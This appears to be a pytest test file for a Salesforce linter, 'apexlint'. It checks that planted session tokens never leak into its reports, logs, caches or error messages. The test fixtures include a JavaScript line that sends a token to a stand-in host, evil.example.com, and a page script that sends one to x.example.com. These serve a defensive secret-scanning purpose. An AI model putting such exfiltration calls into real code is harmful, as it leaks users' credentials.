"""A live session ID or access token found in a package never reaches a report, a log or an error.

SID009 flags token-shaped literals because whoever reads them can act as the user; a report that
repeated one would leak it again, into CI logs, code-scanning alerts and HTML pages that travel
further than the source. The token is planted everywhere a scan can meet it: Apex, Visualforce,
JavaScript and metadata XML, inside suppression reasons, next to parse errors, and in file and
folder names. Every output format, stdout and stderr are searched for its secret part, in any
encoding a report could give it (raw, percent-encoded, HTML-escaped); the redacted prefix may show.
"""

from __future__ import annotations

import html
import io
import json
import os
import subprocess
import sys
import zipfile
from functools import cache
from pathlib import Path
from typing import NamedTuple
from urllib.parse import quote

import pytest

from apexlint.engine import ScanOptions, scan
from apexlint.lower.js_values import MAX_TEXT, JsValue, concat
from apexlint.lower.text_scan import shorten
from apexlint.secrets import TOKEN_RE, clip, redact, redact_all
from tests.cache_files import at_rest
from tests.fuzz.inputs import REPO, SFDX_SOURCE, write_sfdx_package

TOKEN = "00D5g000004XyZaEAK!ARcAQKz8pT3vNq1xLm0bC4dEfGhIjKlMnOpQrStUvWxYz.1234567890abcdef"
SECRET_PART = TOKEN.split("!", 1)[1]
FORMATS = ("text", "json", "sarif", "html")


def _leaks(text: str) -> list[str]:
    """The forms of the token's secret part found in `text` (the `00D5g` prefix may show)."""
    forms = {"raw": SECRET_PART, "percent-encoded": quote(SECRET_PART, safe=""),
             "html-escaped": html.escape(SECRET_PART), "json-escaped": json.dumps(SECRET_PART)[1:-1],
             "first 24 characters": SECRET_PART[:24], "whole token percent-encoded": quote(TOKEN, safe="/")}
    return sorted(name for name, form in forms.items() if form in text)


def test_the_planted_value_is_token_shaped() -> None:
    assert TOKEN_RE.fullmatch(TOKEN)
    assert _leaks(redact(f"x = '{TOKEN}'")) == []
    assert redact(TOKEN).startswith("00D5g")


def test_the_secret_half_alone_is_a_token() -> None:
    """`'!ARcAQ…'` without its org id (put in `SessionHeader.sessionId`, the org's URL elsewhere) is
    the credential all the same; an exclamation mark before other long text is not."""
    assert _leaks(redact(f"sessionId = '!{SECRET_PART}';")) == []
    assert TOKEN_RE.search("if (!AbstractQueueableJobRunner.isEnabledForThisOrgAndEveryUser()) {}") is None
    assert TOKEN_RE.search("'!ARcAQshort'") is None


def test_a_marker_glued_to_the_token_does_not_hide_it() -> None:
    """`Session_Id00D…!…`: the VF-trick code's test fixtures glue their markers to the token."""
    for glued in (f"Start_Of_Session_Id{TOKEN}End", f"x{TOKEN}", f"9{TOKEN}"):
        assert _leaks(redact(glued)) == [], glued


# -- the package --------------------------------------------------------------------------------
APEX = f"""public with sharing class Leaky {{
    private static final String KEY = '{TOKEN}';
    public static void logIt() {{
        String sid = UserInfo.getSessionId();
        // apexlint:disable-next-line SID003 -- approved by security review, see {TOKEN}
        System.debug(sid);
    }}
    public static String header() {{
        return 'Bearer {TOKEN}';
    }}
    public static void port(MetadataService.MetadataPort service) {{
        service.SessionHeader.sessionId = '!{SECRET_PART}';
    }}
    // token copied from Workbench while debugging: {TOKEN}
    /**
     * Callback sample: https://acme.example.com/cb#access_token={TOKEN}&instance_url=x
     */
}}
"""
APEX_BROKEN = f"""public class Broken {{
    String a = '{TOKEN}' + ;
    Integer b = ({TOKEN}
"""
PAGE = f"""<apex:page controller="Leaky">
  <script>var token = '{TOKEN}'; fetch('https://x.example.com/?t=' + token);</script>
  <div data-token="{TOKEN}">{TOKEN}</div>
  <!-- apexlint:disable-next-line SID009 -- kept for the demo org {TOKEN} -->
  <span title="{TOKEN}">{{!'{TOKEN}'}}</span>
  <apex:outputLink value="https://example.com/?sid={TOKEN}">go</apex:outputLink>
  <div <{TOKEN}
  <!-- test session: {TOKEN} -->
</apex:page>
"""
EMAIL = f"""<messaging:emailTemplate subject="Welcome" recipientType="User">
<messaging:htmlEmailBody>
<!-- sent with {TOKEN} -->
<p>Hello</p>
</messaging:htmlEmailBody>
</messaging:emailTemplate>
"""
STATIC_PAGE = f"<!DOCTYPE html>\n<html><body>\n<!-- dev session {TOKEN} -->\n</body></html>\n"
# Tokens in comments (Apex `//` and `/** */`, HTML comments of a page, an email template and a
# static page): file -> lines. Comments run nothing, but they are source all the same.
COMMENTED = {f"{SFDX_SOURCE}/classes/Leaky.cls": {5, 14, 16}, f"{SFDX_SOURCE}/pages/Leaky.page": {4, 8},
             f"{SFDX_SOURCE}/email/Mail/Welcome.email": {3}, f"{SFDX_SOURCE}/staticresources/site/index.html": {3}}
SCRIPT = f"""var token = '{TOKEN}';
// apexlint:disable-next-line SID009 -- rotated weekly, current value {TOKEN}
var again = "{TOKEN}";
fetch('https://evil.example.com/c?t=' + encodeURIComponent(token));
var broken = = '{TOKEN}';
"""
WORKFLOW = f"""<?xml version="1.0" encoding="UTF-8"?>
<Workflow xmlns="http://soap.sforce.com/2006/04/metadata">
    <outboundMessages>
        <fullName>Leak</fullName>
        <description>{TOKEN}</description>
        <endpointUrl>https://hooks.example.com/in?token={TOKEN}</endpointUrl>
        <!-- apexlint:disable-next-line SID005 -- receiver authenticates with {TOKEN} -->
        <includeSessionId>true</includeSessionId>
        <name>Leak</name>
    </outboundMessages>
    <broken attr="{TOKEN}"
</Workflow>
"""
# A custom label whose packaged value holds the token, and a callout built from it: the SID002
# message names the label and its packaged value (analyses/endpoints.py, `describe_labels`)
LABELS = f"""<?xml version="1.0" encoding="UTF-8"?>
<CustomLabels xmlns="http://soap.sforce.com/2006/04/metadata">
    <labels>
        <fullName>Keyed_Hook</fullName>
        <language>en_US</language>
        <protected>false</protected>
        <shortDescription>Keyed hook</shortDescription>
        <value>https://hooks.example.com/in?key={TOKEN}</value>
    </labels>
</CustomLabels>
"""
LABEL_CALLOUT = """public with sharing class LabelHook {
    public static void push() {
        HttpRequest req = new HttpRequest();
        req.setEndpoint(Label.Keyed_Hook + '&v=1');
        req.setHeader('X-Session', UserInfo.getSessionId());
        new Http().send(req);
    }
}
"""
LATIN1_TRIGGER = f"trigger Latin on Account (after insert) {{ String s = 'é{TOKEN}'; }}\n"
OBJECT = f"""<?xml version="1.0" encoding="UTF-8"?>
<CustomObject xmlns="http://soap.sforce.com/2006/04/metadata">
    <webLinks>
        <fullName>Open</fullName>
        <url>https://portal.example.com/open?t={TOKEN}&amp;sid={{!$Api.Session_ID}}</url>
    </webLinks>
</CustomObject>
"""


# Files apexlint analyses for nothing but tokens (SID009 holds "in any file"): tool settings,
# scripts, a JSON static resource (it ships to subscribers), a file in Latin-1
TEXT_FILES = {
    "config/.session": f'{{"username": "dev@example.com", "sid": "{TOKEN}"}}\n',
    ".env": f"SF_ACCESS_TOKEN={TOKEN}\n",
    ".env.local": f"# rotated weekly\nexport SID='{TOKEN}'",
    "scripts/apex/anon.apex": f"String sid = '{TOKEN}';\n",
    f"{SFDX_SOURCE}/staticresources/settings.json": f'{{"token": "{TOKEN}"}}\n',
    f"{SFDX_SOURCE}/staticresources/settings.resource-meta.xml":
        "<StaticResource><contentType>application/json</contentType></StaticResource>\n",
    "docs/notes.txt": f"Café org: {TOKEN}\n",
}


def _kit_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("config/app.json", f'{{\n  "token": "{TOKEN}"\n}}\n')
    return out.getvalue()


# Static resources searched for tokens only: a `text/plain` one named `.resource` (as every resource is
# in a metadata-API tree) and a zip's JSON member, whose finding is on the archive
RESOURCES = {
    f"{SFDX_SOURCE}/staticresources/Notes.resource": f"token={TOKEN}\n".encode(),
    f"{SFDX_SOURCE}/staticresources/Notes.resource-meta.xml":
        b"<StaticResource><contentType>text/plain</contentType></StaticResource>\n",
    f"{SFDX_SOURCE}/staticresources/kit.zip": _kit_zip(),
    f"{SFDX_SOURCE}/staticresources/kit.resource-meta.xml":
        b"<StaticResource><contentType>application/zip</contentType></StaticResource>\n",
}


def _contents_package(root: Path) -> Path:
    """The token inside files of every kind, in code, text, comments and suppression reasons."""
    return write_sfdx_package(root, {
        f"{SFDX_SOURCE}/classes/Leaky.cls": APEX.encode(),
        f"{SFDX_SOURCE}/classes/Broken.cls": APEX_BROKEN.encode(),
        f"{SFDX_SOURCE}/triggers/Latin.trigger": LATIN1_TRIGGER.encode("latin-1"),
        f"{SFDX_SOURCE}/pages/Leaky.page": PAGE.encode(),
        f"{SFDX_SOURCE}/email/Mail/Welcome.email": EMAIL.encode(),
        f"{SFDX_SOURCE}/staticresources/site/index.html": STATIC_PAGE.encode(),
        f"{SFDX_SOURCE}/staticresources/leaky.js": SCRIPT.encode(),
        f"{SFDX_SOURCE}/workflows/Account.workflow-meta.xml": WORKFLOW.encode(),
        f"{SFDX_SOURCE}/objects/Account/Account.object-meta.xml": OBJECT.encode(),
        f"{SFDX_SOURCE}/labels/CustomLabels.labels-meta.xml": LABELS.encode(),
        f"{SFDX_SOURCE}/classes/LabelHook.cls": LABEL_CALLOUT.encode(),
        **{rel: text.encode("latin-1" if rel.endswith(".txt") else "utf-8") for rel, text in TEXT_FILES.items()},
        **RESOURCES,
    }, namespace="acme")


def _path_package(root: Path) -> Path:
    """The token as a file name and as a folder name, holding a finding and a notification."""
    root = write_sfdx_package(root, {
        f"{SFDX_SOURCE}/classes/{TOKEN}.cls": APEX.encode(),
        f"{SFDX_SOURCE}/classes/{TOKEN}/Inner.cls": b"public class Inner { String s = UserInfo.getSessionId(); }\n",
        f"{SFDX_SOURCE}/classes/{TOKEN}/Binary.cls": b"public class Binary {\x00\x01\x02\xff",
        f"{SFDX_SOURCE}/pages/{TOKEN}.page": b"<apex:page><div <\n",
    }, namespace="acme")
    (root / SFDX_SOURCE / "classes" / "Gone.cls").symlink_to(f"{TOKEN}-missing.cls")
    return root


# -- running the command line -------------------------------------------------------------------
def _cli(cwd: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "PYTHONPATH": str(REPO), "NO_COLOR": "1"}
    return subprocess.run([sys.executable, "-m", "apexlint", *args], cwd=cwd, env=env, capture_output=True,
                          text=True, timeout=300, check=False)


@cache
def _outputs(cwd: Path, fmt: str) -> dict[str, str]:
    """Everything a user or CI sees from one scan in `fmt`: the report (text on stdout, the others
    in a file, as they are normally used) and stderr."""
    to_stdout = fmt == "text"
    proc = _cli(cwd, "scan", "pkg", "--format", fmt, "--no-cache", *(() if to_stdout else ("-o", f"report.{fmt}")))
    assert proc.returncode == 1, proc.stderr
    report = proc.stdout if to_stdout else (cwd / f"report.{fmt}").read_text(encoding="utf-8")
    return {"report": report, "stdout": proc.stdout, "stderr": proc.stderr}


@pytest.fixture(scope="module")
def contents_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    cwd = tmp_path_factory.mktemp("secrets-in-contents")
    _contents_package(cwd / "pkg")
    return cwd


@pytest.fixture(scope="module")
def path_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    cwd = tmp_path_factory.mktemp("secrets-in-paths")
    _path_package(cwd / "pkg")
    return cwd


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_token_in_any_file_never_appears_in_any_output(fmt: str, contents_dir: Path) -> None:
    outputs = _outputs(contents_dir, fmt)
    assert "SID009" in outputs["report"], "the planted tokens must be found for this test to mean anything"
    leaks = {where: found for where, text in outputs.items() if (found := _leaks(text))}
    assert not leaks, f"the token's secret part appears in {leaks}"


def test_the_planted_tokens_are_found_in_files_of_every_kind(contents_dir: Path) -> None:
    report = json.loads(_outputs(contents_dir, "json")["report"])
    found = {f["path"] for f in report["findings"] if f["ruleId"] == "SID009"}
    planted = {f"pkg/{rel}" for rel, text in TEXT_FILES.items() if TOKEN in text}
    planted |= {f"pkg/{rel}" for rel in RESOURCES if not rel.endswith("-meta.xml")}
    assert planted <= found, f"no SID009 in {sorted(planted - found)}"


def test_a_token_in_a_custom_labels_value_is_found_and_its_export_names_the_label(contents_dir: Path) -> None:
    """So that every format's search for the secret covers a message quoting a label's packaged value."""
    report = json.loads(_outputs(contents_dir, "json")["report"])
    assert f"pkg/{SFDX_SOURCE}/labels/CustomLabels.labels-meta.xml" in {
        f["path"] for f in report["findings"] if f["ruleId"] == "SID009"}
    exports = [f["message"] for f in report["findings"]
               if f["ruleId"] == "SID002" and f["path"].endswith("LabelHook.cls")]
    assert exports and "custom label Keyed_Hook (packaged value 'https://hooks.example.com/in?key=00D5g" in exports[0]


def test_the_planted_tokens_in_comments_are_found(contents_dir: Path) -> None:
    """So that every format's search for the secret covers a finding in a comment too."""
    report = json.loads(_outputs(contents_dir, "json")["report"])
    found = {(f["path"], f["startLine"]) for f in report["findings"] if f["ruleId"] == "SID009"}
    planted = {(f"pkg/{rel}", line) for rel, lines in COMMENTED.items() for line in lines}
    assert planted <= found, f"no SID009 at {sorted(planted - found)}"


def test_the_redacted_prefix_is_what_reports_show(contents_dir: Path) -> None:
    outputs = _outputs(contents_dir, "text")
    assert "00D5g" in outputs["stdout"]


@pytest.mark.parametrize("fmt", FORMATS)
def test_a_token_in_a_file_or_folder_name_never_appears_in_any_output(fmt: str, path_dir: Path) -> None:
    outputs = _outputs(path_dir, fmt)
    leaks = {where: found for where, text in outputs.items() if (found := _leaks(text))}
    assert not leaks, f"the token's secret part appears in {leaks}"


def test_a_token_in_a_command_line_error_is_redacted(tmp_path: Path) -> None:
    proc = _cli(tmp_path, "scan", f"{TOKEN}.cls")
    assert proc.returncode == 2
    assert not _leaks(proc.stderr + proc.stdout), proc.stderr


def test_a_token_given_as_the_sarif_category_is_redacted() -> None:
    # AE-10: `--category` went into SARIF's automationDetails.id as given (the HTML report
    # scrubbed it; its other echoes, in command-line errors, are redacted)
    from apexlint.catalogue import load_catalogue
    from apexlint.findings import PackageInfo, ScanResult
    from apexlint.report import REPORTERS, ReportOptions
    out = io.StringIO()
    REPORTERS["sarif"].render(ScanResult(PackageInfo("pkg", "", "sfdx"), (), ()), load_catalogue(), out,
                              ReportOptions(color=False, tool_version="0", category=TOKEN))
    assert not _leaks(out.getvalue())
    assert json.loads(out.getvalue())["runs"][0]["automationDetails"]["id"] == redact(TOKEN) + "/"


def test_notification_messages_carry_no_token_from_file_contents(tmp_path: Path) -> None:
    """Notifications are built from file text (parse errors quote it): they must be redacted at the source."""
    root = _contents_package(tmp_path / "pkg")
    result = scan(ScanOptions(paths=(root,), root=tmp_path, jobs=1))
    assert result.notifications, "the broken files must produce notifications for this test to mean anything"
    leaking = [n.message for n in result.notifications if _leaks(n.message)]
    assert not leaking, leaking


def test_the_scan_result_and_the_result_the_cache_keeps_hold_no_token(tmp_path: Path) -> None:
    """Context lines (for the HTML report) are redacted when made: no token in the result in memory,
    nor in the result the cache remembers for the next scan (`scan-<hash>.result`), nor in what
    it keeps of the analysis (`scan-<hash>.analysis`: findings, notifications, suppressions)."""
    root = at_rest(_contents_package(tmp_path / "pkg"))  # else the result is not kept: see cache.py, RACY_NS
    result = scan(ScanOptions(paths=(root,), root=tmp_path, jobs=1, cache_dir=tmp_path / "cache"))
    assert result.contexts and any(f.rule_id == "SID009" for f in result.findings)
    assert not _leaks(repr(result)), "the result holds the token's secret part"
    for suffix in ("result", "analysis"):
        [kept] = (tmp_path / "cache").rglob(f"scan-*.{suffix}")
        assert SECRET_PART.encode() not in kept.read_bytes()


@pytest.mark.parametrize("at", range(0, 130, 1))
def test_texts_cut_for_messages_never_keep_a_piece_of_a_token(at: int) -> None:
    """Sink texts, URL approximations and messages are cut to a length; a cut through a token
    would leave a piece too short to be recognised, shown as it is. Every cut position is tried."""
    assert _leaks(clip("x" * at + " " + TOKEN, 120)) == []
    assert _leaks(shorten(" " * (4 * 120 - at) + TOKEN + " and more")) == []
    url = JsValue(text="https://example.com/?" + "p" * (MAX_TEXT - 40 - at) + "&t=")
    assert _leaks(concat(url, JsValue(text=TOKEN)).text) == []


class _Pair(NamedTuple):
    text: str
    count: int


def test_redact_all_keeps_every_container_its_type() -> None:
    """A named tuple (a file's summary in the analysis memo) stays one, or its fields are lost."""
    value = {"k": [_Pair(f"x {TOKEN}", 1), (f"{TOKEN}",), _Pair("clean", 2)]}
    redacted = redact_all(value)
    first, plain, clean = redacted["k"]
    assert isinstance(first, _Pair) and first.count == 1 and _leaks(first.text) == []
    assert type(plain) is tuple and _leaks(plain[0]) == []
    assert clean is value["k"][2], "nothing to redact: the same object"


def test_a_token_in_a_long_literal_is_quoted_with_a_little_context_not_the_whole_literal(tmp_path: Path) -> None:
    """A mock login response holds the token among 1-2k characters of XML: the message names the
    token where it sits, not the whole response with its org, user and server URL."""
    xml = ('<?xml version="1.0" encoding="UTF-8"?><soapenv:Envelope><soapenv:Body><loginResponse><result>'
           '<serverUrl>https://cs3-api.salesforce.com/services/Soap/u/24.0/00DQ0000000DPr2</serverUrl>'
           f'<sessionId>{TOKEN}</sessionId><userId>005300000050zVTAAY</userId>' + "<x/>" * 200 +
           '</result></loginResponse></soapenv:Body></soapenv:Envelope>')
    cls = f"public class LoginMock {{\n    static String body() {{\n        return '{xml}';\n    }}\n}}\n"
    root = write_sfdx_package(tmp_path / "p", {f"{SFDX_SOURCE}/classes/LoginMock.cls": cls.encode()})
    (finding,) = [f for f in scan(ScanOptions(paths=(root,), root=root, jobs=1)).findings if f.rule_id == "SID009"]
    assert len(finding.message) < 250 and not _leaks(finding.message)
    assert "<sessionId>00D5g…[REDACTED]</sessionId>" in finding.message and "005300000050zVTAAY" not in finding.message
